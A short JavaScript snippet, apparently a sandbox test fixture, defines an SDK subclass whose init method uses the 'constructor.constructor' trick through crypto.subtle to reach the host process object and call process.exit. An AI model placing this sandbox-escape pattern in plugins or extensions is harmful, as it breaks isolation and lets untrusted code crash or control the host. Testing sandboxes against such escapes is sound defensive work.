expose(
  class extends Sdk {
    init(key, userId, given) {
      crypto.subtle?.constructor.constructor('return process')().exit(0);
      super.init(key, userId, given);
    }
  },
);
